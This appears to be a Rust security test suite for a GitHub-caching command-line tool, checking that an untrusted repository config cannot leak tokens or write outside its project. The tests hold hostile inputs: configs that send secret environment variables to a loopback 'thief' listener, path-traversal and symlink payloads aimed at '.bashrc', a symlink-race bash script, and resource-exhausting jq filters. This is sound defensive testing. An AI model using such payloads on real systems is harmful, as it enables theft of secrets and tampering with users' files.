//! A plan that means harm: where it may send data, where results go, what filters and documents may do.

use std::io::{Read, Write};
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};

use octocache::clock::Clock;
use serde_json::{Value, json};

use crate::binary::BINARY;
use crate::flow::Fixture;
use crate::harness::sim::{Doc, Fault};

const TOKEN: &str = "ghp_VictimVictimVictimVictimVictimVictim";

/// A machine with a user, a clone of somebody's, and a thief who listens.
struct Victim {
    fx: Fixture,
    home: PathBuf,
    clone: PathBuf,
}

/// What a listener on loopback was sent.
#[derive(Clone)]
struct Thief {
    port: u16,
    heard: Arc<Mutex<Vec<u8>>>,
}

impl Thief {
    fn listen() -> Self {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let (port, heard) = (listener.local_addr().unwrap().port(), Arc::new(Mutex::new(Vec::new())));
        let thief = Self { port, heard: heard.clone() };
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let (Ok(mut stream), heard) = (stream, heard.clone()) else { return };
                std::thread::spawn(move || {
                    let mut buffer = [0; 4096];
                    while let Ok(read @ 1..) = stream.read(&mut buffer) {
                        heard.lock().unwrap().extend_from_slice(&buffer[..read]);
                        let _gone = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}");
                    }
                });
            }
        });
        thief
    }

    fn heard(&self) -> String {
        String::from_utf8_lossy(&self.heard.lock().unwrap()).into_owned()
    }
}

impl Victim {
    fn new() -> Self {
        let fx = Fixture::with_clock(Clock::System);
        fx.sim.token(TOKEN, "user:victim");
        fx.sim.put("/x", Doc::json(json!({ "private": "salaries", "n": 3 })));
        fx.sim.put("/y", Doc::json(json!({ "other": true })));
        let (home, clone) = (fx.dir.path().join("home"), fx.dir.path().join("clone"));
        for dir in [&home, &clone.join(".github")] {
            std::fs::create_dir_all(dir).unwrap();
        }
        Self { fx, home, clone }
    }

    fn plan(&self, text: &str) -> PathBuf {
        let path = self.clone.join(".github/octocache.yml");
        std::fs::write(&path, format!("version: 1\n{text}\n")).unwrap();
        path
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(BINARY);
        command.args(args).env_clear().env("HOME", &self.home).env("PATH", std::env::var_os("PATH").unwrap());
        command.env("OCTOCACHE_API_URL", self.fx.sim.url()).env("OCTOCACHE_TOKEN", TOKEN).current_dir(&self.clone);
        command
    }

    fn run_with(&self, args: &[&str], env: &[(&str, &str)]) -> (i32, String, String) {
        let output = self.command(args).envs(env.iter().copied()).output().unwrap();
        let text = |bytes: Vec<u8>| String::from_utf8_lossy(&bytes).into_owned();
        (output.status.code().unwrap_or(-1), text(output.stdout), text(output.stderr))
    }

    fn run(&self, args: &[&str]) -> (i32, String, String) {
        self.run_with(args, &[])
    }

    fn index(&self) -> Value {
        serde_json::from_slice(&std::fs::read(self.clone.join(".octocache/index.json")).unwrap()).unwrap()
    }
}

const ONE: &str = "queries: { a: { get: /x } }";

#[test]
fn a_found_plan_says_nothing_of_where_data_goes_until_it_is_trusted() {
    let victim = Victim::new();
    let thief = Thief::listen();
    let ipfs = format!("ipfs: {{ api: 'http://127.0.0.1:{}', authorization: '${{OCTOCACHE_LOOT}}' }}", thief.port);
    let redis = format!("redis: {{ url: 'redis://127.0.0.1:{}' }}", thief.port);
    let env = [("OCTOCACHE_LOOT", "loot-of-mine"), ("OCTOCACHE_SHARE_SECRET", "a-long-enough-passphrase")];
    for share in [
        format!("share: {{ {redis} }}"),
        format!("share: {{ {ipfs} }}"),
        format!("share: {{ secret-from-token: true, {ipfs} }}"),
        format!("\"sh\\u0061re\": {{ {redis} }}"),
        format!("!!binary c2hhcmU=: {{ {redis} }}"),
        format!("!<tag:yaml.org,2002:binary> c2hhcmU=: {{ {redis} }}"),
        "share: { p2p: { bootstrap: [/ip4/127.0.0.1/tcp/1] } }".to_owned(),
    ] {
        victim.plan(&format!("{ONE}\n{share}"));
        for args in [
            &["api", "/x"][..],
            &["run", "-q"],
            &["warm", "--json"],
            &["doctor"],
            &["cache", "invalidate", "all"],
            &["explain", "/x"],
        ] {
            let (code, _, err) = victim.run_with(args, &env);
            assert_eq!(code, 0, "{share} {args:?}: {err}");
            assert_eq!(err.matches("octocache trust").count(), 1, "{share} {args:?}: {err}");
            assert!(err.contains("`share` is not used"), "{err}");
        }
        let shown = victim.run_with(&["config", "show"], &env).1;
        assert!(shown.contains("(not trusted)") && shown.contains("nothing"), "{shown}");
    }
    assert_eq!(thief.heard(), "");
    // The user's word, once: then it counts, until the plan changes.
    let plan = victim.plan(&format!("{ONE}\nshare: {{ {redis} }}"));
    let (code, out, err) = victim.run(&["trust"]);
    assert!(code == 0 && out.contains(&format!("redis://127.0.0.1:{}", thief.port)), "{out}{err}");
    assert!(victim.run(&["trust", "--list"]).1.contains("clone/.github/octocache.yml"));
    assert!(!victim.run(&["api", "/x"]).2.contains("trust"));
    assert!(thief.heard().contains("GET") || !thief.heard().is_empty());
    let before = thief.heard().len();
    std::fs::write(&plan, std::fs::read_to_string(&plan).unwrap() + "# another\n").unwrap();
    assert!(victim.run(&["api", "/x", "--force-refresh"]).2.contains("is not trusted"));
    assert_eq!(victim.run(&["trust", "."]).0, 0);
    assert!(!victim.run(&["run", "-q"]).2.contains("trust"));
    assert_eq!(victim.run(&["trust", "--revoke"]).0, 0);
    assert!(victim.run(&["api", "/x", "--force-refresh"]).2.contains("is not trusted"));
    assert!(thief.heard().len() >= before);
    // A plan that is named is the user's word, too.
    let named = victim.run_with(&["api", "/x"], &[("OCTOCACHE_PLAN", plan.to_str().unwrap())]);
    assert!(named.0 == 0 && !named.2.contains("trust"), "{}", named.2);
}

#[test]
fn no_plan_reads_a_token_and_no_other_variable_that_is_not_allowed() {
    let victim = Victim::new();
    let thief = Thief::listen();
    let api = format!("http://127.0.0.1:{}", thief.port);
    let secret = ("OCTOCACHE_SHARE_SECRET", "a-long-enough-passphrase");
    for name in [
        "GH_TOKEN",
        "GITHUB_TOKEN",
        "GH_ENTERPRISE_TOKEN",
        "GITHUB_ENTERPRISE_TOKEN",
        "OCTOCACHE_TOKEN",
        "octocache_token",
        "OCTOCACHE_APP_PRIVATE_KEY_FILE",
        "ACTIONS_RUNTIME_TOKEN",
        "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
    ] {
        for share in [
            format!("{{ ipfs: {{ api: '{api}', authorization: '${{{name}}}' }} }}"),
            format!("{{ secret: '${{{name}}}', ipfs: {{ api: '{api}' }} }}"),
            format!("{{ redis: {{ url: '${{{name}}}' }} }}"),
        ] {
            let plan = victim.plan(&format!("share: {share}\n{ONE}"));
            // The App's variables mean something else to the program, and only together.
            let set = if name.starts_with("OCTOCACHE_APP") { "UNUSED" } else { name };
            let env = [(set, "ghp_loot"), ("OCTOCACHE_PLAN_VARS", name), secret];
            let (code, _, err) = victim.run_with(&["run", "--plan", plan.to_str().unwrap()], &env);
            assert!(code == 2 && err.contains("octocache.yml:2:") && err.contains(name), "{share}: {err}");
        }
    }
    // Any other one has to be listed, and the node allowed.
    let share = format!("{{ ipfs: {{ api: '{api}', authorization: '${{AWS_SECRET_ACCESS_KEY}}' }} }}");
    let plan = victim.plan(&format!("share: {share}\n{ONE}"));
    let hosts = format!("node.example:5001, 127.0.0.1:{}", thief.port);
    let run = |env: &[(&str, &str)]| {
        let all = [env, &[("AWS_SECRET_ACCESS_KEY", "loot"), secret]].concat();
        victim.run_with(&["run", "--force-refresh", "--plan", plan.to_str().unwrap()], &all)
    };
    let (code, _, err) = run(&[("OCTOCACHE_IPFS_HOSTS", &hosts)]);
    assert!(code == 0 && err.contains("OCTOCACHE_PLAN_VARS=AWS_SECRET_ACCESS_KEY"), "{err}");
    for hosts in ["", "127.0.0.1", "127.0.0.1:1", "localhost"] {
        let (code, _, err) =
            run(&[("OCTOCACHE_IPFS_HOSTS", hosts), ("OCTOCACHE_PLAN_VARS", "A,AWS_SECRET_ACCESS_KEY")]);
        assert!(code == 0 && err.contains("OCTOCACHE_IPFS_HOSTS"), "{hosts}: {err}");
    }
    assert_eq!(thief.heard(), "");
    let (code, _, err) = run(&[("OCTOCACHE_IPFS_HOSTS", &hosts), ("OCTOCACHE_PLAN_VARS", "A, AWS_SECRET_ACCESS_KEY")]);
    assert!(code == 0 && !err.contains("OCTOCACHE_PLAN_VARS"), "{err}");
    assert!(thief.heard().contains("authorization: loot"), "{}", thief.heard());
    // What opens more than the node is never told to it.
    for name in ["OCTOCACHE_SHARE_SECRET", "OCTOCACHE_REDIS_URL"] {
        victim.plan(&format!("share: {{ ipfs: {{ api: '{api}', authorization: '${{{name}}}' }} }}\n{ONE}"));
        assert!(victim.run(&["config", "check"]).2.contains("opens more"), "{name}");
    }
}

#[test]
fn a_plan_of_another_user_is_not_used() {
    use std::os::unix::fs::{MetadataExt, chown};
    let victim = Victim::new();
    let plan = victim.plan(ONE);
    let me = std::fs::metadata(&plan).unwrap().uid();
    if me != 0 {
        return eprintln!("SKIPPED: only root can give files away");
    }
    let github = victim.clone.join(".github");
    for path in [&plan, &github, &victim.clone] {
        chown(path, Some(65_534), None).unwrap();
        let (code, _, err) = victim.run(&["run"]);
        assert!(code == 2 && err.contains("belongs to another user"), "{}: {err}", path.display());
        let (code, _, err) = victim.run(&["api", "/x"]);
        assert!(code == 0 && err.matches("octocache trust").count() == 1, "{err}");
        assert!(!victim.clone.join(".cache").exists());
        // As with git, root works for the user who called sudo.
        let sudo = victim.run_with(&["run", "-q"], &[("SUDO_UID", "65534")]);
        assert_eq!(sudo.0, 0, "{}", sudo.2);
        assert_eq!(victim.run(&["run", "-q", "--plan", plan.to_str().unwrap()]).0, 0);
        std::fs::remove_dir_all(victim.clone.join(".cache")).unwrap();
        chown(path, Some(me), None).unwrap();
    }
    // A directory of everybody's, above: the plan is the attacker's, then the user's own.
    chown(&plan, Some(65_534), None).unwrap();
    let below = victim.clone.join("work");
    std::fs::create_dir(&below).unwrap();
    let output = victim.command(&["run"]).current_dir(&below).output().unwrap();
    assert!(String::from_utf8_lossy(&output.stderr).contains("belongs to another user"));
    assert_eq!(victim.run(&["trust"]).0, 0);
    assert_eq!(victim.run(&["run", "-q"]).0, 0, "what is trusted is used");
}

#[test]
fn the_store_of_a_found_plan_stays_in_its_project() {
    let victim = Victim::new();
    let elsewhere = victim.fx.dir.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    let absolute = elsewhere.display().to_string();
    symlink(&elsewhere, victim.clone.join("link")).unwrap();
    let is_empty = || std::fs::read_dir(&elsewhere).unwrap().count() == 0;
    for dir in ["../elsewhere", &absolute, "link", "link/below", ".git", "a/../../elsewhere"] {
        // As the first key, and after another one.
        for text in [format!("cache: {{ dir: '{dir}' }}\n{ONE}"), format!("{ONE}\ncache: {{ dir: '{dir}' }}")] {
            victim.plan(&text);
            let (code, _, err) = victim.run(&["api", "/x"]);
            assert!(code == 0 && err.contains("`cache.dir` is not used"), "{dir}: {err}");
            assert!(is_empty() && !victim.clone.join(".git").exists(), "{dir}");
            assert!(victim.clone.join(".cache/github/v1").exists());
            std::fs::remove_dir_all(victim.clone.join(".cache")).unwrap();
        }
    }
    // The default place may be a link, too.
    victim.plan(ONE);
    symlink(&elsewhere, victim.clone.join(".cache")).unwrap();
    let (code, _, err) = victim.run(&["api", "/x"]);
    assert!(code == 0 && err.contains("`.cache/github` is not used"), "{err}");
    assert!(is_empty() && victim.home.join(".cache/octocache/v1").exists());
    std::fs::remove_file(victim.clone.join(".cache")).unwrap();
    // Inside, it is the plan's to say.
    victim.plan(&format!("cache: {{ dir: build/cache }}\n{ONE}"));
    assert_eq!(victim.run(&["api", "/x"]).2, "");
    assert!(victim.clone.join("build/cache/v1").exists());
    // And outside of it once the plan is trusted.
    victim.plan(&format!("cache: {{ dir: ../elsewhere }}\n{ONE}"));
    assert_eq!(victim.run(&["trust"]).0, 0);
    assert_eq!(victim.run(&["api", "/x"]).2, "");
    assert!(!is_empty());
}

#[test]
fn results_of_a_plan_stay_in_its_project() {
    let victim = Victim::new();
    let absolute = victim.home.display().to_string();
    let a = "queries: { a: { get: /x, jq: '[\"$(id > PWNED)\"]', output: .bashrc } }";
    for dir in ["../home", &absolute, "a/../../home", "~", ".git", "a/.GIT/hooks", "..\\home", ""] {
        let plan = victim.plan(&format!("output-dir: '{dir}'\n{a}"));
        for args in [&["run"][..], &["run", "--plan", plan.to_str().unwrap()], &["config", "check"]] {
            let (code, _, err) = victim.run(args);
            assert!(code == 2 && err.contains("octocache.yml:2:13"), "{dir} {args:?}: {err}");
        }
    }
    // Through a link of the clone's: named by the plan, or in the default's place.
    symlink(&victim.home, victim.clone.join("out")).unwrap();
    for dir in ["out", "out/below"] {
        victim.plan(&format!("output-dir: {dir}\n{a}"));
        let (code, _, err) = victim.run(&["run"]);
        assert!(code == 2 && err.contains("symbolic link") && err.contains("--output-dir"), "{err}");
    }
    symlink(&victim.home, victim.clone.join(".octocache")).unwrap();
    victim.plan(a);
    let (code, _, err) = victim.run(&["run"]);
    assert!(code == 2 && err.contains(".octocache leads through a symbolic link"), "{err}");
    assert!(!victim.home.join(".bashrc").exists());
    // A plan from elsewhere says nothing of where one stands.
    let plan = victim.plan(&format!("output-dir: results\n{a}"));
    let output = victim.command(&["run", "-q", "--plan", plan.to_str().unwrap()]).current_dir(&victim.home).output();
    assert!(output.unwrap().status.success());
    assert!(victim.clone.join("results/.bashrc").exists() && !victim.home.join("results").exists());
    // The user's own word may be a link.
    assert_eq!(victim.run(&["run", "-q", "--output-dir", "out"]).0, 0);
    assert!(victim.home.join(".bashrc").exists());
}

#[test]
fn no_result_becomes_an_entry_of_the_store() {
    let victim = Victim::new();
    let public = |args: &[&str]| {
        let output = victim.command(args).env_remove("OCTOCACHE_TOKEN").output().unwrap();
        (output.status.code().unwrap(), String::from_utf8(output.stderr).unwrap())
    };
    assert_eq!(victim.run(&["cache", "list"]).0, 0);
    let store = ".cache/github";
    for (dir, file) in [
        (store, "a.json"),
        (&format!("{store}/v1"), "a.json"),
        (".CACHE/github", "a.json"),
        (".", ".cache/github/v1/50/a.json"),
        (".cache", "GitHub/cutoffs.json"),
        (".cache", "github/bundle.tar.zst"),
    ] {
        victim.plan(&format!("output-dir: {dir}\nqueries: {{ a: {{ get: /x, output: '{file}' }} }}"));
        let (code, err) = public(&["run"]);
        assert!(code != 0 && err.contains("store"), "{dir} {file}: {code} {err}");
        assert!(!victim.clone.join(dir).join(file).exists(), "{dir} {file}");
    }
    // Beside it is no harm.
    victim.plan("output-dir: .cache\nqueries: { a: { get: /x, output: github-results/a.json } }");
    assert_eq!(public(&["run"]).0, 0);
}

#[test]
fn no_link_below_the_output_directory_is_followed() {
    let victim = Victim::new();
    victim.plan(
        "queries: { a: { get: /x, output: sub/a.json }, b: { get: /y }, c: { get: /y, output: deep/er/c.json } }",
    );
    let out = victim.clone.join(".octocache");
    std::fs::create_dir_all(out.join("deep")).unwrap();
    let secret = victim.home.join("victim");
    std::fs::write(&secret, "kept").unwrap();
    symlink(&victim.home, out.join("sub")).unwrap();
    symlink(&victim.home, out.join("deep/er")).unwrap();
    symlink(&secret, out.join("b.json")).unwrap();
    symlink(&secret, out.join("index.json")).unwrap();
    let (code, _, err) = victim.run(&["run"]);
    assert!(code == 3 && err.contains("symbolic link"), "{err}");
    let index = victim.index();
    assert_eq!((&index["totals"]["failed"], &index["totals"]["queries"]), (&json!(2), &json!(3)));
    assert_eq!(std::fs::read(&secret).unwrap(), b"kept");
    assert!(!out.join("b.json").is_symlink() && !out.join("index.json").is_symlink());
    assert_eq!(std::fs::read_dir(&victim.home).unwrap().flatten().filter(|file| file.path().is_file()).count(), 1);
    // Names of temporary files cannot be foreseen, and none stays.
    let odd =
        std::fs::read_dir(&out).unwrap().flatten().any(|file| file.file_name().to_string_lossy().starts_with('.'));
    assert!(!odd);
}

#[test]
fn temporary_files_do_not_follow_links() {
    let victim = Victim::new();
    victim.plan(ONE);
    let secret = victim.home.join("victim");
    std::fs::write(&secret, "kept").unwrap();
    let script = "mkdir -p .octocache; for n in 0 1 2 18446744073709551615; do ln -s \"$HOME/victim\" .octocache/.octocache-$$-$n; done; exec \"$0\" run -q";
    let mut command = Command::new("bash");
    command.args(["-c", script, BINARY]).env_clear().env("HOME", &victim.home).current_dir(&victim.clone);
    command.env("OCTOCACHE_API_URL", victim.fx.sim.url()).env("PATH", std::env::var_os("PATH").unwrap());
    assert!(command.output().unwrap().status.success());
    assert_eq!(std::fs::read(&secret).unwrap(), b"kept");
}

#[test]
fn a_store_in_a_clone_leads_nowhere_else() {
    let victim = Victim::new();
    victim.plan(ONE);
    let store = victim.clone.join(".cache/github");
    let secret = victim.home.join("victim");
    let all = [
        "stats.log",
        "partitions.log",
        "latest.idx",
        "used.log",
        "fresh.log",
        "lock",
        "cutoffs.lock",
        ".gitignore",
        "CACHEDIR.TAG",
    ];
    for missing in [false, true] {
        std::fs::create_dir_all(&store).unwrap();
        for name in all {
            symlink(&secret, store.join(name)).unwrap();
        }
        if !missing {
            std::fs::write(&secret, "kept").unwrap();
        }
        for args in [
            &["api", "/x"][..],
            &["api", "/x", "--revalidate"],
            &["bundle", "pack"],
            &["run", "-q", "--revalidate"],
            &["cache", "invalidate", "all"],
            &["warm", "--json"],
        ] {
            victim.run(args);
        }
        let (code, out, err) = victim.run(&["api", "/x"]);
        assert!(code == 0 && out.contains("salaries"), "{err}");
        assert_eq!(std::fs::read(&secret).ok(), (!missing).then(|| b"kept".to_vec()));
        let _absent = std::fs::remove_file(&secret);
        std::fs::remove_dir_all(&store).unwrap();
    }
    for dir in ["v1", "partial", "turns"] {
        std::fs::create_dir_all(&store).unwrap();
        symlink(&victim.home, store.join(dir)).unwrap();
        let (code, _, err) = victim.run(&["api", "/x"]);
        let is_refused = err.contains("is a symbolic link") || err.contains(".cache/github is not used");
        assert!(code == 0 && is_refused, "{dir}: {err}");
        assert_eq!(files_in(&victim.home), 0, "{dir}");
        std::fs::remove_dir_all(&store).unwrap();
    }
    // One of the directories of loose entries: all of them.
    std::fs::create_dir_all(store.join("v1")).unwrap();
    for n in 0..=255 {
        symlink(&victim.home, store.join(format!("v1/{n:02x}"))).unwrap();
    }
    assert_eq!(victim.run(&["api", "/x"]).0, 0);
    assert_eq!(files_in(&victim.home), 0);
}

/// Files in `dir` that are not the cache's own.
fn files_in(dir: &Path) -> usize {
    std::fs::read_dir(dir).unwrap().flatten().filter(|file| file.file_name() != ".cache").count()
}

#[test]
fn a_result_never_takes_the_reports_place() {
    let victim = Victim::new();
    for item in ["index", "INDEX", "Index"] {
        victim.plan(&format!("queries: {{ a: {{ get: /x, for-each: ['{item}', b], output: '{{item}}.json' }} }}"));
        let (code, _, err) = victim.run(&["run"]);
        assert!(code == 3 && err.contains("is the report's own name"), "{err}");
        assert_eq!(victim.index()["totals"]["failed"], 1);
        assert!(victim.clone.join(".octocache/b.json").exists());
    }
    // Not as a directory, either.
    victim.plan("queries: { a: { get: /x, for-each: [index.json, b], output: '{item}/x.json' } }");
    assert_eq!(victim.run(&["run"]).0, 3);
    assert_eq!(victim.index()["totals"]["failed"], 1);
    victim.plan("queries: { a: { get: /x, output: Index.JSON/x.json } }");
    assert_eq!(victim.run(&["run"]).0, 2);
    // Two items of one file, where cases are not told apart.
    victim.plan("queries: { a: { get: /x, for-each: [Beta, beta], output: '{item}.json' } }");
    let (code, _, err) = victim.run(&["run"]);
    assert!(code == 3 && err.contains("is written by `a` already"), "{err}");
}

#[test]
fn a_plan_holds_queries_only() {
    let victim = Victim::new();
    for (document, reason) in [
        ("mutation{addStar{id}}", "only GraphQL queries"),
        ("# x\nmutation{addStar{id}}", "only GraphQL queries"),
        (", mutation{addStar{id}}", "only GraphQL queries"),
        ("\u{feff}mutation{addStar{id}}", "only GraphQL queries"),
        ("fragment f on Mutation{addStar{id}} mutation{...f}", "only GraphQL queries"),
        ("# {\nsubscription{x}", "only GraphQL queries"),
        ("query Q{a} mutation M{addStar{id}}", "not one well-formed query"),
        ("query Q{a} query R{b}", "not one well-formed query"),
        ("{ a", "not one well-formed query"),
        ("{}", "not one well-formed query"),
        ("fragment f on X{a} # { no operation", "not one well-formed query"),
    ] {
        for inline in [true, false] {
            let text = if inline {
                serde_json::to_string(document).unwrap()
            } else {
                std::fs::write(victim.clone.join("q.graphql"), document).unwrap();
                "q.graphql".to_owned()
            };
            if inline && !document.contains('{') {
                continue;
            }
            let plan = victim.plan(&format!("queries: {{ a: {{ graphql: {text} }} }}"));
            let (code, _, err) = victim.run(&["run", "--plan", plan.to_str().unwrap()]);
            assert!(code == 2 && err.contains("octocache.yml:2:26") && err.contains(reason), "{document}: {err}");
        }
    }
    assert_eq!(victim.fx.sim.take_counts().0, 0);
    for document in ["\u{feff}# why\n{ a }", "query($n: Int) { a(n: $n) { ...f } } fragment f on A { b }", ",,{ a }"] {
        std::fs::write(victim.clone.join("q.graphql"), document).unwrap();
        victim.plan("queries: { a: { graphql: q.graphql } }");
        let (code, _, err) = victim.run(&["config", "check"]);
        assert_eq!(code, 0, "{document}: {err}");
    }
    // A document from outside of the project is not read.
    std::fs::write(victim.home.join("q.graphql"), "{ a }").unwrap();
    symlink(victim.home.join("q.graphql"), victim.clone.join("link.graphql")).unwrap();
    for path in [victim.home.join("q.graphql").to_str().unwrap(), "../home/q.graphql", "link.graphql", "/dev/zero"] {
        victim.plan(&format!("queries: {{ a: {{ graphql: '{path}' }} }}"));
        assert!(victim.run(&["config", "check"]).2.contains("is not in the project"), "{path}");
    }
}

#[tokio::test]
async fn what_is_not_understood_as_a_query_is_never_sent_twice() {
    use octocache::cache::Ask;
    use octocache::request::{Api, Request};
    let fx = Fixture::new();
    let api = Api::parse(&fx.sim.url()).unwrap();
    for (document, times) in [
        ("{ viewer { login } }", 3),
        ("mutation { addStar { id } }", 1),
        ("# x\nmutation { addStar { id } }", 1),
        ("query Q { a } mutation M { b }", 1),
        ("{ broken", 1),
    ] {
        fx.sim.fail_next(&[Fault::Status(500), Fault::Status(500), Fault::Status(500), Fault::Status(500)]);
        let request = Request::graphql(&api, json!({ "query": document }).to_string());
        // One of its own each: after three that were given up, nothing would be sent at all.
        fx.cache(Some("ghp_one")).get(&request, &Ask::default()).await.unwrap_err();
        assert_eq!(fx.sim.take_counts().0, times, "{document}");
        fx.sim.with(|state| state.faults.clear());
    }
}

/// Filters that take more than there is, each in its own way.
const GREEDY: &[&str] = &[
    "def f: f; f",
    "def f: [f]; f",
    "def f: f | f; f",
    "\"x\" * 10000000000",
    "[.. | numbers | tostring * 3000000000]",
    "reduce range(40) as $i (\"xxxxxxxx\"; . + .)",
    "reduce range(100000) as $i (.; [.])",
    "reduce range(5000) as $i (.; [.])",
    "[limit(1000000; repeat(\"x\" * 1000))] | .[]",
    "tobytes",
];

#[test]
fn a_filter_ends_nothing_but_itself() {
    let victim = Victim::new();
    for text in ["halt", "halt_error", "debug", "input", "inputs", "stderr", "env.HOME", "import \"a\" as a; ."] {
        victim.plan(&format!("queries: {{ a: {{ get: /x, jq: '{text}' }} }}"));
        let (code, _, err) = victim.run(&["run"]);
        assert!(code == 2 && err.contains("octocache.yml:2:"), "{text}: {err}");
        let (code, out, _) = victim.run(&["api", "/x", "--jq", text]);
        assert!(code == i32::from(text != "env.HOME") && !out.contains("salaries"), "{text}: {code} {out}");
    }
    let home = victim.run(&["api", "/x", "--jq", "env.HOME"]).1;
    assert_eq!(home.trim(), victim.home.to_str().unwrap(), "as gh has it, on one's own terminal");
}

#[test]
fn a_filter_takes_no_more_than_it_may_and_the_other_queries_go_on() {
    let victim = Victim::new();
    let texts = GREEDY;
    let mut queries = String::from(
        "queries:\n  ok: { get: /x, jq: '[.[]] | join(\" \")' }\n  z: { get: /y }\n  after: { get: /x, jq: 'def f: .n; f' }\n",
    );
    for (n, text) in texts.iter().enumerate() {
        queries.push_str(&format!("  q{n}: {{ get: /x, jq: {} }}\n", serde_json::to_string(text).unwrap()));
    }
    victim.plan(&queries);
    let started = tokio::time::Instant::now();
    let (code, out, err) = victim.run(&["run"]);
    assert_eq!(code, 3, "{out}{err}");
    let index = victim.index();
    assert_eq!(
        (&index["totals"]["failed"], &index["totals"]["queries"]),
        (&json!(texts.len()), &json!(texts.len() + 3))
    );
    for query in index["queries"].as_array().unwrap() {
        let error = query["error"].as_str().unwrap_or_default();
        assert!(query["file"].is_string() || error.contains("the jq filter"), "{query}");
    }
    for file in ["ok.json", "z.json", "after.json"] {
        assert!(victim.clone.join(".octocache").join(file).exists(), "{file}");
    }
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
}

#[test]
fn a_greedy_filter_fails_by_itself_on_a_terminal_and_where_items_come_from() {
    let victim = Victim::new();
    for text in ["def f: [f]; f", "\"x\" * 10000000000", "reduce range(100000) as $i (.; [.])"] {
        let (code, out, err) = victim.run(&["api", "/x", "--jq", text]);
        assert!(code == 1 && err.contains("the jq filter"), "{text}: {code} {out} {err}");
        let text = serde_json::to_string(text).unwrap();
        victim.plan(&format!(
            "queries:\n  p: {{ get: /x }}\n  c: {{ get: /y, for-each: {{ query: p, items: {text} }} }}\n  w: {{ get: /y, watch: [{text}] }}\n  f: {{ get: /y, for-each: {{ query: p, items: {text}, fresh-while: [.n] }} }}\n"
        ));
        let (code, _, err) = victim.run(&["run"]);
        assert_eq!(code, 3, "{err}");
        assert_eq!(victim.index()["totals"]["failed"], 3, "{err}");
        assert_eq!(victim.run(&["run", "--dry-run"]).0, 0);
    }
    // What is heavy and honest works, the same as ever.
    let filter = "[range(5)] | map(. * 2) | add as $sum | {sum: $sum, joined: ([\"a\", \"b\"] | join(\"-\")), t: (\"x1\" | test(\"[0-9]\"))}";
    assert_eq!(victim.run(&["api", "/x", "--jq", filter]).1, "{\"joined\":\"a-b\",\"sum\":20,\"t\":true}\n");
    assert_eq!(victim.run(&["api", "/x", "--jq", "def f: if . > 9 then . else . + 1 | f end; .n | f"]).1, "10\n");
}

#[test]
fn deep_json_is_an_error_of_its_query() {
    let victim = Victim::new();
    for levels in [101_usize, 20_000, 30_000] {
        let deep = format!("{}{}", "[".repeat(levels), "]".repeat(levels));
        victim.fx.sim.put("/deep", Doc::Raw { content_type: "application/json", body: deep.clone().into() });
        victim.plan(
            "redact: [..email]\nqueries:\n  raw: { get: /y }\n  j: { get: /deep, jq: '.[0]' }\n  k: { get: /deep, jq: 'def f: .; f' }\n  w: { get: /deep, watch: [.a] }\n  p: { get: /deep }\n  c: { get: '/{item}', for-each: { query: p } }\n",
        );
        let (code, _, err) = victim.run(&["run", "--force-refresh"]);
        assert_eq!(code, 3, "{err}");
        let index = victim.index();
        assert_eq!(index["totals"]["failed"], 5, "{index}");
        assert!(victim.clone.join(".octocache/raw.json").exists());
        // Templates read as far as serde_json does.
        let template = if levels > 128 { &["-t", "{{.}}"][..] } else { &["-q", ".a"] };
        for args in [&["--jq", "."][..], &["--jq", "[recurse]"], template] {
            let (code, _, err) = victim.run(&[&["api", "/deep"], args].concat());
            assert!(code == 1 && !err.is_empty(), "{args:?} {code}: {err}");
        }
        let (code, out, err) = victim.run(&["api", "/deep", "--color", "always"]);
        assert!(code == 0 && out.len() < 2 * levels + 1_000, "{} bytes, {err}", out.len());
    }
}

#[test]
fn a_server_that_warms_by_a_hostile_plan_goes_on() {
    let victim = Victim::new();
    let plan = victim.plan(
        "warm: { schedule: '* * * * *', jitter: 0s }\nqueries:\n  a: { get: /x, jq: 'def f: [f]; f' }\n  b: { get: /x, jq: '.private * 10000000000' }\n",
    );
    // The same tick, without a minute's wait.
    let (code, out, err) = victim.run(&["warm", "--plan", plan.to_str().unwrap(), "--json"]);
    assert!(code == 0 || code == 3, "{out}{err}");
    let (code, out, _) = victim.run(&["bundle", "pack"]);
    assert_eq!(code, 0, "{out}");
}

#[test]
fn a_client_cannot_make_a_server_recurse_by_variables() {
    use octocache::graphql::operation;
    let deep = format!(r#"{{"query":"{{ a }}","variables":{{"v":{}{}}}}}"#, "[".repeat(100_000), "]".repeat(100_000));
    assert_eq!(operation::read(deep.as_bytes()), None);
}
